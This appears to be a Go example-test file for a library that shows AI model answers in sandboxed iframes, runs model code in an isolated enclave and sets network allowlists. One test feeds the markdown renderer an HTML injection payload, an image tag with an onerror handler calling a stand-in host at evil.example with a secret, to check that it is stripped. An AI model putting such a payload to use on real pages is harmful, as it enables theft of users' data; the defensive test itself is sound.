package iframe_test

import (
	"context"
	"fmt"
	"log"
	"strings"

	"github.com/bailey-go/bailey/iframe"
	"github.com/bailey-go/bailey/iframe/markdown"
)

// A document shows a conversation in an element of the page, <div id="app"></div>. A model's answer is
// written as it comes, and the page stays at its end. A link opens nothing: OnLink decides.
func ExampleNewDocument() {
	ctx := context.Background()
	parent, err := iframe.ElementByID("app")
	if err != nil {
		log.Fatal(err)
	}
	view, err := iframe.NewDocument(ctx, parent, iframe.DocumentOptions{
		Follow: true,
		OnLink: func(ctx context.Context, l iframe.Link) { log.Println("the user pressed a link to", l.URL) },
		Theme:  iframe.Theme{Variables: map[string]string{"--bailey-link": "light-dark(#2f6f4f, #7bc49a)"}},
	})
	if err != nil {
		log.Fatal(err) // such as the directive that the page's Content-Security-Policy lacks
	}
	question := view.Section("1")
	_ = question.SetKind("user")
	fmt.Fprint(question, "Which files are there?")
	question.Close()
	answer := view.Section("2")
	for _, token := range []string{"There is **one**: ", "`notes.md`."} {
		fmt.Fprint(answer, token)
	}
	answer.Close()
	select {} // a page's program stays
}

// An enclave runs the code of a model. It has no network and no page, and it ends at its limits.
func ExampleNewEnclave() {
	ctx := context.Background()
	enclave, err := iframe.NewEnclave(ctx, iframe.EnclaveOptions{})
	if err != nil {
		log.Fatal(err)
	}
	defer enclave.Close()
	res, err := enclave.Run(ctx, "return args.prices.reduce((a, b) => a + b)", iframe.RunOptions{
		Args: map[string]any{"prices": []any{3, 4, 5}},
	})
	if err != nil {
		log.Fatal(err) // what the code threw, or the limit that ended it
	}
	fmt.Println(res.Value)
}

// For a server, or a page without scripts: Frame returns the whole element.
func ExampleNewSrcdoc() {
	r, err := markdown.New(markdown.Options{})
	if err != nil {
		fmt.Println(err)
		return
	}
	html, _, err := r.Render([]byte("# Report\n\n<img src=https://evil.example/?secret onerror=steal()>Fine.\n"))
	if err != nil {
		fmt.Println(err)
		return
	}
	doc, err := iframe.NewSrcdoc(html, iframe.SrcdocOptions{Label: "The model's answer", Lang: "en"})
	if err != nil {
		fmt.Println(err)
		return
	}
	frame := doc.Frame()
	fmt.Println(strings.HasPrefix(frame, "<iframe "), strings.Contains(frame, "onerror"), strings.Contains(frame, "<script"))
	// Output: true false false
}

// A proxy for pages of tools, for a server at https://apps.example. AppOptions.Proxy is then that address.
func ExampleAppOptions_Page() {
	page, err := iframe.AppOptions{Connect: []string{"https://api.example.com"}}.Page("https://app.example")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(page.Header["Connection-Allowlist"][0])
	// Output: ("https://api.example.com")
}
